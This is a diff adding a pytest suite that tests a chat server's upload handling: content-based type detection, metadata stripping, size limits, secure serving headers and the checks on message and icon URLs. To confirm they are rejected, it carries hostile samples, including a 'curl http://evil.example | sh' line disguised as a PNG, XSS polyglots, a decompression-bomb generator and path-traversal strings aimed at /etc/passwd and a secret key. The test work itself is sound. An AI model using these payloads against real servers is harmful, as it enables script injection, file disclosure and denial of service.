@@ -1,0 +1,678 @@
+"""Uploads (issue 6): pictures and voice clips typed by their content, stored
+under server-made names, served so that none can run script in our origin;
+chat messages and icons may only point to real uploads. Against the real
+gevent server, a real database and Redis.
+
+Sample files are made here. Pictures come from Pillow and WAV from the stdlib
+``wave`` module, so they are real files. No encoder for WebM, Ogg/Opus, MP3,
+M4A or AAC is at hand, so those samples are built byte by byte the way the
+format's specification lays them out: the container headers that browsers'
+MediaRecorder and encoders write first (with correct sizes and, for Ogg, page
+checksums) followed by minimal frames. The server only reads those headers to
+decide a type (it never decodes audio), so a sample whose headers are exact is a
+fair test of the detector; the MP3 frames are silent frames a decoder plays.
+file(1) (libmagic) names each sample as the type it stands for.
+"""
+
+import http.client
+import io
+import os
+import re
+import socket
+import struct
+import uuid
+import wave
+import zlib
+
+import pytest
+import requests
+from PIL import Image
+
+from helpers import PASSWORD, Api
+from http_checks import answer, error
+
+UPLOAD = "/attach/upload"
+URL_RE = re.compile(r"^/uploads/[0-9a-f]{32}\.(png|jpg|gif|webp|webm|ogg|mp3|wav|m4a|aac)$")
+CSRF_META = re.compile(r'<meta name="csrf-token" content="([^"]+)"')
+
+
+# --- sample files ---------------------------------------------------------------------------
+def picture(fmt, size=(24, 16), **save):
+    im = Image.new("RGB", size, (200, 30, 60))
+    for x in range(size[0]):
+        im.putpixel((x, x % size[1]), (10, 200, 90))
+    if fmt == "GIF":
+        im = im.convert("P")
+    buf = io.BytesIO()
+    im.save(buf, fmt, **save)
+    return buf.getvalue()
+
+
+def noisy_png(size=(64, 64)):
+    """A PNG whose pixel data does not compress away, to cut in half."""
+    im = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
+    buf = io.BytesIO()
+    im.save(buf, "PNG")
+    return buf.getvalue()
+
+
+def wav_clip(seconds=0.2, rate=8000):
+    buf = io.BytesIO()
+    with wave.open(buf, "wb") as w:
+        w.setnchannels(1)
+        w.setsampwidth(2)
+        w.setframerate(rate)
+        w.writeframes(b"\x00\x00" * int(seconds * rate))
+    return buf.getvalue()
+
+
+def _ogg_crc(data):
+    """The Ogg page checksum: CRC-32, polynomial 0x04C11DB7, not reflected."""
+    crc = 0
+    for byte in data:
+        crc ^= byte << 24
+        for _ in range(8):
+            crc = ((crc << 1) ^ 0x04C11DB7) if crc & 0x80000000 else crc << 1
+            crc &= 0xFFFFFFFF
+    return crc
+
+
+def _ogg_page(packet, seq, flags, granule=0, serial=0x1234):
+    assert len(packet) < 255
+    header = struct.pack("<4sBBqIIIB", b"OggS", 0, flags, granule, serial, seq, 0, 1) + bytes([len(packet)])
+    page = header + packet
+    return page[:22] + struct.pack("<I", _ogg_crc(page)) + page[26:]
+
+
+def ogg_opus_clip():
+    """The two header pages of an Ogg Opus stream (RFC 7845): OpusHead, OpusTags."""
+    head = b"OpusHead" + struct.pack("<BBHIhB", 1, 1, 312, 48000, 0, 0)
+    vendor = b"ginchat"
+    tags = b"OpusTags" + struct.pack("<I", len(vendor)) + vendor + struct.pack("<I", 0)
+    return _ogg_page(head, 0, 0x02) + _ogg_page(tags, 1, 0x00)
+
+
+def _ebml(element_id, payload):
+    """One EBML element with an 8-byte size (as MediaRecorder writes)."""
+    return element_id + b"\x01" + struct.pack(">Q", len(payload))[1:] + payload
+
+
+def webm_opus_clip():
+    """An EBML header with DocType webm and a Segment whose Tracks hold one
+    Opus audio track, the start of what Chrome's MediaRecorder writes."""
+    header = _ebml(b"\x1a\x45\xdf\xa3", b"".join([
+        _ebml(b"\x42\x86", b"\x01"), _ebml(b"\x42\xf7", b"\x01"), _ebml(b"\x42\xf2", b"\x04"),
+        _ebml(b"\x42\xf3", b"\x08"), _ebml(b"\x42\x82", b"webm"), _ebml(b"\x42\x87", b"\x04"),
+        _ebml(b"\x42\x85", b"\x02"),
+    ]))
+    audio = _ebml(b"\xe1", _ebml(b"\xb5", struct.pack(">f", 48000.0)) + _ebml(b"\x9f", b"\x01"))
+    track = _ebml(b"\xae", _ebml(b"\xd7", b"\x01") + _ebml(b"\x73\xc5", b"\x01") + _ebml(b"\x83", b"\x02")
+                  + _ebml(b"\x86", b"A_OPUS") + audio)
+    segment = _ebml(b"\x18\x53\x80\x67", _ebml(b"\x16\x54\xae\x6b", track))
+    return header + segment
+
+
+def mp3_clip(frames=3):
+    """An ID3v2.3 tag and silent MPEG-1 Layer III frames (128 kbit/s, 44.1 kHz,
+    mono): 417 bytes each, all-zero side information and data."""
+    title = b"\x00voice"
+    frame = b"TIT2" + struct.pack(">I", len(title)) + b"\x00\x00" + title
+    tag = b"ID3\x03\x00\x00" + bytes([0, 0, 0, len(frame)]) + frame
+    mpeg = b"\xff\xfb\x90\xc0" + bytes(417 - 4)
+    return tag + mpeg * frames
+
+
+def adts_clip(frames=3):
+    """AAC-LC in ADTS frames (44.1 kHz, mono), each a 7-byte header and payload."""
+    payload = bytes(16)
+    length = 7 + len(payload)
+    header = bytes([0xFF, 0xF1, 0x50, 0x40 | (length >> 11), (length >> 3) & 0xFF, ((length & 7) << 5) | 0x1F, 0xFC])
+    return (header + payload) * frames
+
+
+def _box(kind, payload):
+    return struct.pack(">I", 8 + len(payload)) + kind + payload
+
+
+def m4a_clip(handler=b"soun"):
+    """ftyp (brand M4A) and a moov whose track's handler says sound: the boxes
+    the detector reads, laid out as in any M4A (sample tables left out)."""
+    ftyp = _box(b"ftyp", b"M4A " + struct.pack(">I", 0) + b"M4A isommp42")
+    hdlr = _box(b"hdlr", bytes(4) + bytes(4) + handler + bytes(12) + b"SoundHandler\x00")
+    mdhd = _box(b"mdhd", bytes(4) + struct.pack(">IIIIHH", 0, 0, 48000, 0, 0x55C4, 0))
+    trak = _box(b"trak", _box(b"mdia", mdhd + hdlr))
+    moov = _box(b"moov", trak)
+    return ftyp + moov + _box(b"mdat", b"")
+
+
+def _png_chunk(kind, data):
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def bomb_png(width, height):
+    """A 1-bit greyscale PNG of width x height black pixels: a few hundred KB
+    that would decode to width*height pixels (a decompression bomb)."""
+    row = b"\x00" + bytes((width + 7) // 8)
+    packer = zlib.compressobj(9)
+    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
+    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")
+
+
+def jpeg_with_location(orientation=None):
+    exif = Image.Exif()
+    exif[0x010F] = "SpyCam Maker"  # Make
+    gps = exif.get_ifd(0x8825)
+    gps[1], gps[2] = "N", (35.0, 41.0, 22.0)
+    gps[3], gps[4] = "E", (139.0, 41.0, 30.0)
+    if orientation:
+        exif[0x0112] = orientation
+    return picture("JPEG", size=(40, 20), exif=exif.tobytes(), comment=b"secret comment")
+
+
+ACCEPTED = [
+    ("png", lambda: picture("PNG"), "image/png", "x.png", "image/png"),
+    ("jpg", lambda: picture("JPEG"), "image/jpeg", "photo.jpeg", "image/jpeg"),
+    ("gif", lambda: picture("GIF"), "image/gif", "a.gif", "image/gif"),
+    ("webp", lambda: picture("WEBP"), "image/webp", "b.webp", "image/webp"),
+    ("wav", wav_clip, "audio/wav", "v.wav", "audio/wav"),
+    ("ogg", ogg_opus_clip, "audio/ogg", "v.ogg", "audio/ogg"),
+    ("webm", webm_opus_clip, "audio/webm", "v.webm", "audio/webm"),
+    ("mp3", mp3_clip, "audio/mpeg", "v.mp3", "audio/mpeg"),
+    ("m4a", m4a_clip, "audio/mp4", "v.m4a", "audio/mp4"),
+    ("aac", adts_clip, "audio/aac", "v.aac", "audio/aac"),
+]
+
+
+# --- helpers --------------------------------------------------------------------------------
+def send(user, content, filename="file.bin", content_type="application/octet-stream", field="file", **kwargs):
+    files = {field: (filename, content, content_type)}
+    return requests.post(user.api.url + UPLOAD, files=files, headers=user.auth, timeout=30, **kwargs)
+
+
+def uploaded(user, content, **kwargs):
+    body = answer(send(user, content, **kwargs), 200)
+    assert URL_RE.match(body["Data"]), body
+    return body["Data"]
+
+
+def fetch(user, url, **headers):
+    return requests.get(user.api.url + url, headers=dict(user.auth, **headers), timeout=10)
+
+
+def raw_get(api, path, token):
+    """GET a path exactly as written: requests and urllib3 would remove the
+    dot segments that a traversal attempt needs."""
+    conn = http.client.HTTPConnection("127.0.0.1", api.server.port, timeout=10)
+    try:
+        conn.putrequest("GET", path, skip_accept_encoding=True)
+        conn.putheader("Authorization", f"Bearer {token}")
+        conn.endheaders()
+        r = conn.getresponse()
+        return r.status, r.read()
+    finally:
+        conn.close()
+
+
+def folder(app):
+    return app.config["UPLOAD_FOLDER"]
+
+
+def leftovers(app):
+    return [n for n in os.listdir(folder(app)) if n.startswith(".part-") or n.endswith(".clean")]
+
+
+def browser(api, user):
+    session = requests.Session()
+    r = session.post(api.url + "/user/findUserByNameAndPwd", data={"name": user.name, "password": PASSWORD}, timeout=10)
+    assert r.status_code == 200, r.text
+    page = session.get(api.url + "/toChat", timeout=10)
+    return session, CSRF_META.search(page.text).group(1)
+
+
+@pytest.fixture(scope="module")
+def small_server(make_server):
+    """A server whose upload limit is 0.25 MiB (a body limit of 0.25 MiB + 64 KiB)."""
+    return make_server(MAX_UPLOAD_MB=0.25)
+
+
+@pytest.fixture
+def small_api(small_server):
+    return Api(small_server)
+
+
+# --- accepted types ------------------------------------------------------------------------------
+@pytest.mark.parametrize("ext, make, mimetype, filename, sent_type", ACCEPTED, ids=[a[0] for a in ACCEPTED])
+def test_each_accepted_type_is_stored_and_served_with_its_type(api, ext, make, mimetype, filename, sent_type):
+    me = api.user()
+    content = make()
+    url = uploaded(me, content, filename=filename, content_type=sent_type)
+    assert url.endswith("." + ext)
+    r = fetch(me, url)
+    assert r.status_code == 200
+    assert r.headers["Content-Type"] == mimetype
+    if ext != "jpg":  # JPEGs lose their metadata segments (see below)
+        assert r.content == content
+
+
+@pytest.mark.parametrize("ext, make, mimetype, filename, sent_type", ACCEPTED, ids=[a[0] for a in ACCEPTED])
+def test_type_comes_from_the_content_not_the_name_or_content_type(api, ext, make, mimetype, filename, sent_type):
+    me = api.user()
+    url = uploaded(me, make(), filename="misleading.html", content_type="text/html")
+    assert url.endswith("." + ext)
+    assert fetch(me, url).headers["Content-Type"] == mimetype
+
+
+def test_every_upload_gets_a_new_server_made_name(api):
+    me = api.user()
+    content = picture("PNG")
+    first, second = uploaded(me, content, filename="../../evil.png"), uploaded(me, content, filename="evil.png")
+    assert first != second
+    assert "evil" not in first and ".." not in first
+
+
+def test_jpeg_loses_exif_location_and_comments(api, app):
+    me = api.user()
+    original = jpeg_with_location()
+    assert b"SpyCam" in original and b"secret comment" in original
+    url = uploaded(me, original, filename="photo.jpg", content_type="image/jpeg")
+    with open(os.path.join(folder(app), url.rsplit("/", 1)[1]), "rb") as fh:
+        stored = fh.read()
+    assert b"SpyCam" not in stored and b"secret comment" not in stored and b"Exif" not in stored
+    with Image.open(io.BytesIO(stored)) as im, Image.open(io.BytesIO(original)) as before:
+        im.load()
+        assert im.size == (40, 20)
+        assert not im.getexif()
+        assert "exif" not in im.info
+        # Lossless: the segments went, the compressed picture is untouched.
+        assert im.tobytes() == before.tobytes()
+
+
+def test_jpeg_turned_by_exif_is_turned_for_real(api, app):
+    me = api.user()
+    url = uploaded(me, jpeg_with_location(orientation=6), filename="photo.jpg")  # 6: turn 90° clockwise
+    r = fetch(me, url)
+    assert b"SpyCam" not in r.content
+    with Image.open(io.BytesIO(r.content)) as im:
+        assert im.size == (20, 40)
+        assert im.getexif().get(0x0112) in (None, 1)
+
+
+def test_png_loses_text_and_exif_chunks(api):
+    me = api.user()
+    from PIL import PngImagePlugin
+
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Comment", "home address")
+    exif = Image.Exif()
+    exif[0x010F] = "SpyCam Maker"
+    url = uploaded(me, picture("PNG", pnginfo=info, exif=exif.tobytes()))
+    stored = fetch(me, url).content
+    assert b"home address" not in stored and b"SpyCam" not in stored
+    with Image.open(io.BytesIO(stored)) as im:
+        im.load()
+        assert im.size == (24, 16)
+
+
+def test_animated_gif_is_accepted(api):
+    me = api.user()
+    frames = [Image.new("P", (10, 10), i) for i in range(3)]
+    buf = io.BytesIO()
+    frames[0].save(buf, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
+    assert uploaded(me, buf.getvalue()).endswith(".gif")
+
+
+# --- refused kinds -------------------------------------------------------------------------------
+REFUSED = [
+    ("html", b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>", "x.html", "text/html"),
+    ("svg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+     "x.svg", "image/svg+xml"),
+    ("script-as-png", b"#!/bin/sh\ncurl http://evil.example | sh\n", "cute.png", "image/png"),
+    ("js-after-gif-magic", b"GIF89a/*\x00\x00*/=1;alert(document.domain);//", "a.gif", "image/gif"),
+    ("png-magic-then-html", b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>", "a.png", "image/png"),
+    ("riff-avi", b"RIFF\x10\x00\x00\x00AVI LIST\x04\x00\x00\x00hdrl", "a.wav", "audio/wav"),
+    ("ogg-theora-video", _ogg_page(b"\x80theora" + bytes(34), 0, 0x02), "a.ogg", "audio/ogg"),
+    ("matroska-not-webm", _ebml(b"\x1a\x45\xdf\xa3", _ebml(b"\x42\x82", b"matroska")), "a.webm", "audio/webm"),
+    ("mp4-video", m4a_clip(handler=b"vide"), "a.m4a", "audio/mp4"),
+    ("pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "a.pdf", "application/pdf"),
+    ("random-bytes", bytes(range(256)) * 8, "a.mp3", "audio/mpeg"),
+]
+
+
+@pytest.mark.parametrize("kind, content, filename, content_type", REFUSED, ids=[r[0] for r in REFUSED])
+def test_refused_kinds_get_415(api, app, kind, content, filename, content_type):
+    me = api.user()
+    error(send(me, content, filename=filename, content_type=content_type), 415)
+    assert not leftovers(app)
+
+
+def test_truncated_png_gets_415(api, app):
+    me = api.user()
+    whole = noisy_png()
+    uploaded(me, whole)  # the whole file is fine
+    error(send(me, whole[: len(whole) // 2], filename="cut.png", content_type="image/png"), 415, "decode")
+    assert not leftovers(app)
+
+
+def test_truncated_jpeg_gets_415(api):
+    me = api.user()
+    im = Image.frombytes("RGB", (64, 64), os.urandom(64 * 64 * 3))
+    buf = io.BytesIO()
+    im.save(buf, "JPEG")
+    error(send(me, buf.getvalue()[:600], filename="cut.jpg"), 415)
+
+
+def test_zero_byte_file_gets_400(api):
+    me = api.user()
+    error(send(me, b"", filename="empty.png", content_type="image/png"), 400, "empty")
+
+
+@pytest.mark.parametrize("width, height", [(8000, 8000), (30000, 30000)])
+def test_decompression_bomb_gets_413_before_decoding(api, app, width, height):
+    """8000x8000 is over our 50-megapixel limit, 30000x30000 over Pillow's own."""
+    me = api.user()
+    bomb = bomb_png(width, height)
+    assert len(bomb) < 256 * 1024
+    error(send(me, bomb, filename="bomb.png", content_type="image/png"), 413, "pixels")
+    assert not leftovers(app)
+
+
+def test_no_file_field_gets_400(api):
+    me = api.user()
+    error(send(me, picture("PNG"), field="image"), 400, "file")
+    error(me.post(UPLOAD, file="just text"), 400, "file")
+    error(me.post(UPLOAD), 400, "file")
+    error(requests.post(api.url + UPLOAD, data=b"\x89PNG", headers=dict(me.auth, **{"Content-Type": "image/png"}),
+                        timeout=10), 400, "file")
+
+
+def test_not_logged_in_gets_401(api):
+    r = requests.post(api.url + UPLOAD, files={"file": ("x.png", picture("PNG"), "image/png")}, timeout=10)
+    error(r, 401)
+    r = requests.post(api.url + UPLOAD, files={"file": ("x.png", picture("PNG"), "image/png")},
+                      headers={"Authorization": "Bearer not-a-token"}, timeout=10)
+    error(r, 401)
+
+
+def test_cookie_upload_needs_the_csrf_token(api):
+    me = api.user()
+    session, csrf_token = browser(api, me)
+    files = {"file": ("x.png", picture("PNG"), "image/png")}
+    error(session.post(api.url + UPLOAD, files=files, timeout=10), 400, "CSRF")
+    body = answer(session.post(api.url + UPLOAD, files=files, headers={"X-CSRFToken": csrf_token}, timeout=10), 200)
+    assert URL_RE.match(body["Data"])
+    # The browser then shows it with the same cookie.
+    assert session.get(api.url + body["Data"], timeout=10).headers["Content-Type"] == "image/png"
+
+
+# --- size limits ------------------------------------------------------------------------------------
+def test_file_over_the_limit_gets_413(small_api, small_server):
+    me = small_api.user()
+    limit = int(0.25 * 1024 * 1024)
+    # Under the body limit (the file limit + 64 KiB for the form), over the file limit.
+    error(send(me, b"\xff\xfb\x90\xc0" + bytes(limit - 3), filename="big.mp3"), 413, "limit")
+    assert not leftovers(small_server.app)
+    # Exactly the limit is fine.
+    ok = wav_clip(seconds=(limit - 44) / 16000)
+    assert len(ok) == limit
+    assert uploaded(me, ok).endswith(".wav")
+
+
+def test_body_over_the_limit_is_refused_before_it_is_read(small_api):
+    """A Content-Length over the limit gets 413 at once: the server reads none
+    of the body (only the head of it is sent here)."""
+    me = small_api.user()
+    boundary = uuid.uuid4().hex
+    start = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.wav\"\r\n"
+             "Content-Type: audio/wav\r\n\r\n").encode() + wav_clip()
+    conn = http.client.HTTPConnection("127.0.0.1", small_api.server.port, timeout=10)
+    try:
+        conn.putrequest("POST", UPLOAD)
+        conn.putheader("Authorization", f"Bearer {me.token}")
+        conn.putheader("Content-Type", f"multipart/form-data; boundary={boundary}")
+        conn.putheader("Content-Length", str(50 * 1024 * 1024))
+        conn.endheaders()
+        conn.send(start)
+        r = conn.getresponse()
+        status, body = r.status, r.read()
+    finally:
+        conn.close()
+    assert status == 413, body
+    assert b"limit" in body
+
+
+def test_chunked_body_over_the_limit_is_cut_off_while_reading(small_api, small_server):
+    """Without a Content-Length the limit holds while the body streams in."""
+    me = small_api.user()
+    boundary = uuid.uuid4().hex
+    start = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.wav\"\r\n"
+             "Content-Type: audio/wav\r\n\r\n").encode()
+    sock = socket.create_connection(("127.0.0.1", small_api.server.port), timeout=10)
+    try:
+        head = (f"POST {UPLOAD} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {me.token}\r\n"
+                f"Content-Type: multipart/form-data; boundary={boundary}\r\nTransfer-Encoding: chunked\r\n\r\n")
+        sock.sendall(head.encode())
+
+        def chunk(data):
+            sock.sendall(b"%x\r\n" % len(data) + data + b"\r\n")
+
+        chunk(start)
+        sent = len(start)
+        try:
+            # Up to twice the body limit; the server answers once past it.
+            while sent < 2 * (256 + 64) * 1024:
+                chunk(bytes(16 * 1024))
+                sent += 16 * 1024
+        except OSError:
+            pass  # the server may close while we are still sending
+        answer_bytes = b""
+        try:
+            while b"\r\n\r\n" not in answer_bytes:
+                data = sock.recv(65536)
+                if not data:
+                    break
+                answer_bytes += data
+        except OSError:
+            pass
+    finally:
+        sock.close()
+    assert answer_bytes.startswith(b"HTTP/1.1 413"), answer_bytes[:200]
+    assert not leftovers(small_server.app)
+
+
+# --- serving -------------------------------------------------------------------------------------------
+def test_served_file_headers(api):
+    me = api.user()
+    url = uploaded(me, picture("PNG"))
+    r = fetch(me, url)
+    assert r.status_code == 200
+    assert r.headers["Content-Type"] == "image/png"
+    assert r.headers["X-Content-Type-Options"] == "nosniff"
+    csp = r.headers["Content-Security-Policy"]
+    assert "default-src 'none'" in csp and "sandbox" in csp and "script-src" not in csp
+    cache = r.headers["Cache-Control"]
+    assert "private" in cache and "max-age=" in cache and "public" not in cache
+    assert r.headers["Cross-Origin-Resource-Policy"] == "same-origin"
+    assert r.headers["Content-Disposition"].startswith("inline")
+    assert r.headers.get("ETag")
+    again = fetch(me, url, **{"If-None-Match": r.headers["ETag"]})
+    assert again.status_code == 304
+
+
+def test_voice_clip_answers_range_requests(api):
+    """Browsers seek in <audio> with Range requests (Safari needs them)."""
+    me = api.user()
+    clip = wav_clip()
+    url = uploaded(me, clip)
+    r = fetch(me, url, Range="bytes=0-99")
+    assert r.status_code == 206
+    assert r.content == clip[:100]
+    assert r.headers["Content-Type"] == "audio/wav"
+    assert r.headers["X-Content-Type-Options"] == "nosniff"
+
+
+def test_alias_path_serves_the_same_file(api):
+    me = api.user()
+    url = uploaded(me, picture("GIF"))
+    r = fetch(me, url.replace("/uploads/", "/asset/upload/"))
+    assert r.status_code == 200 and r.content == fetch(me, url).content
+    assert r.headers["Content-Type"] == "image/gif"
+
+
+def test_serving_needs_a_login(api):
+    """Uploads are private to the users of this server: a photo sent in a chat
+    is not for anyone on the network who learns its address."""
+    me = api.user()
+    url = uploaded(me, picture("PNG"))
+    error(requests.get(api.url + url, timeout=10), 401)
+
+
+def test_unknown_or_foreign_names_get_404(api, app):
+    me = api.user()
+    # Files in the folder that the server did not name are never served.
+    for stray in ("notes.html", "x.png", ".part-" + "a" * 32):
+        with open(os.path.join(folder(app), stray), "w") as fh:
+            fh.write("<script>alert(1)</script>")
+    try:
+        for path in ("/uploads/notes.html", "/uploads/x.png", "/uploads/.part-" + "a" * 32,
+                     f"/uploads/{uuid.uuid4().hex}.png", f"/uploads/{uuid.uuid4().hex.upper()}.png",
+                     f"/uploads/{uuid.uuid4().hex}.html", "/uploads/.gitkeep", "/uploads/", "/uploads",
+                     "/asset/upload/notes.html"):
+            error(fetch(me, path), 404)
+    finally:
+        for stray in ("notes.html", "x.png", ".part-" + "a" * 32):
+            os.unlink(os.path.join(folder(app), stray))
+
+
+def test_path_traversal_gets_404(api, app):
+    me = api.user()
+    real = uploaded(me, picture("PNG")).rsplit("/", 1)[1]
+    # A file beside the upload folder that a traversal would reach.
+    outside = os.path.join(os.path.dirname(folder(app)), "outside-secret.txt")
+    with open(outside, "w") as fh:
+        fh.write("secret")
+    try:
+        for path in (
+            "/uploads/../outside-secret.txt",
+            "/uploads/../../etc/passwd",
+            "/uploads/%2e%2e/outside-secret.txt",
+            "/uploads/%2E%2E/outside-secret.txt",
+            "/uploads/..%2foutside-secret.txt",
+            "/uploads/%2e%2e%2foutside-secret.txt",
+            "/uploads/..%5coutside-secret.txt",
+            "/uploads/%252e%252e%252foutside-secret.txt",
+            f"/uploads/sub/../{real}",
+            f"/uploads/./{real}",
+            f"/uploads/{real}%00.html",
+            "/asset/upload/../outside-secret.txt",
+            "/asset/upload/%2e%2e/%2e%2e/instance/secret_key",
+        ):
+            status, body = raw_get(api, path, me.token)
+            assert status == 404, (path, status, body[:200])
+            assert b"secret" not in body.replace(b"secret_key", b"")
+        # A doubled slash is merged by the router with a redirect, to a 404.
+        status, _ = raw_get(api, "/uploads/%2fetc%2fpasswd", me.token)
+        assert status in (308, 404)
+        error(fetch(me, "/uploads//etc/passwd"), 404)
+    finally:
+        os.unlink(outside)
+
+
+# --- what uploads are used for ------------------------------------------------------------------------
+def test_upload_exists_knows_only_stored_uploads(api, app):
+    from ginchat.service.attach import upload_exists
+
+    me = api.user()
+    url = uploaded(me, picture("PNG"))
+    with app.app_context():
+        assert upload_exists(url)
+        for other in (url.replace("/uploads/", "/asset/upload/"), url + "x", url.upper(), "/uploads/../x.png",
+                      f"/uploads/{uuid.uuid4().hex}.png", "https://evil.example" + url, "", None, 7):
+            assert not upload_exists(other), other
+
+
+def test_icons_must_be_uploaded_pictures(api):
+    me = api.user()
+    image = uploaded(me, picture("PNG"))
+    voice = uploaded(me, wav_clip())
+    assert answer(me.post("/user/updateUser", icon=image), 200)["Data"]["Avatar"] == image
+    alias = image.replace("/uploads/", "/asset/upload/")
+    assert answer(me.post("/user/updateUser", icon=alias), 200)["Data"]["Avatar"] == image
+    error(me.post("/user/updateUser", icon=voice), 400, "icon")
+    error(me.post("/user/updateUser", icon=f"/uploads/{uuid.uuid4().hex}.png"), 400, "icon")
+    error(me.post("/user/updateUser", icon="https://evil.example/a.png"), 400, "icon")
+    group = answer(me.post("/contact/createCommunity", name=f"g{uuid.uuid4().hex[:8]}", icon=image), 201)["Data"]
+    assert group["Img"] == image
+    error(me.post("/contact/createCommunity", name=f"g{uuid.uuid4().hex[:8]}", icon=voice), 400, "icon")
+
+
+@pytest.fixture
+def pair(api):
+    a, b = api.user("a"), api.user("b")
+    api.befriend(a, b)
+    return a, b
+
+
+def test_image_and_voice_messages_with_upload_urls_are_delivered(pair):
+    a, b = pair
+    image, voice = uploaded(a, picture("JPEG")), uploaded(a, ogg_opus_clip())
+    wa, wb = a.ws(), b.ws()
+    try:
+        wa.send(Type=1, TargetId=b.id, Media=4, Url=image, ClientMsgId="img-1")
+        wa.send(Type=1, TargetId=b.id, Media=3, Url=voice, Amount=3, ClientMsgId="voice-1")
+        got = wb.messages(2)
+        assert [(m["Media"], m["Url"]) for m in got] == [(4, image), (3, voice)]
+        assert got[1]["Amount"] == 3
+        assert [m["ClientMsgId"] for m in wa.messages(2)] == ["img-1", "voice-1"]
+        # The recipient can load what the message points to.
+        assert fetch(b, image).headers["Content-Type"] == "image/jpeg"
+    finally:
+        wa.close()
+        wb.close()
+
+
+@pytest.mark.parametrize("url", [
+    "https://evil.example/cat.png",
+    "//evil.example/cat.png",
+    "javascript:alert(1)",
+    "/uploads/../instance/secret_key",
+    "/static/js/app.js",
+])
+def test_image_message_with_an_outside_url_gets_an_error_frame(pair, url):
+    a, b = pair
+    wa, wb = a.ws(), b.ws()
+    try:
+        wa.send(Type=1, TargetId=b.id, Media=4, Url=url, ClientMsgId="bad-1")
+        frame = wa.recv()
+        assert frame["Type"] == -1 and frame["Code"] == 400 and frame["ClientMsgId"] == "bad-1", frame
+        assert "Url" in frame["Msg"]
+        assert wb.quiet(0.3) == []
+    finally:
+        wa.close()
+        wb.close()
+
+
+@pytest.mark.xfail(strict=True, reason="needs ginchat/chat/dispatch.py to call attach.upload_exists (see issue 6 report)")
+def test_message_with_a_made_up_upload_url_gets_an_error_frame(pair):
+    a, b = pair
+    wa, wb = a.ws(), b.ws()
+    try:
+        wa.send(Type=1, TargetId=b.id, Media=3, Url=f"/uploads/{uuid.uuid4().hex}.ogg", Amount=2, ClientMsgId="bad-2")
+        frame = wa.recv()
+        assert frame["Type"] == -1 and frame["ClientMsgId"] == "bad-2", frame
+        assert wb.quiet(0.3) == []
+    finally:
+        wa.close()
+        wb.close()
+
+
+def test_upload_is_documented_in_swagger(api):
+    spec = requests.get(api.url + "/swagger/apispec.json", timeout=10).json()
+    op = spec["paths"][UPLOAD]["post"]
+    assert "multipart/form-data" in op["consumes"]
+    (param,) = [p for p in op["parameters"] if p["name"] == "file"]
+    assert param["in"] == "formData" and param["type"] == "file"
+    assert op["responses"]["200"]["schema"]["$ref"] == "#/definitions/UploadEnvelope"
+    for status in ("400", "401", "413", "415"):
+        assert status in op["responses"]
+    assert "/uploads/{name}" in spec["paths"]
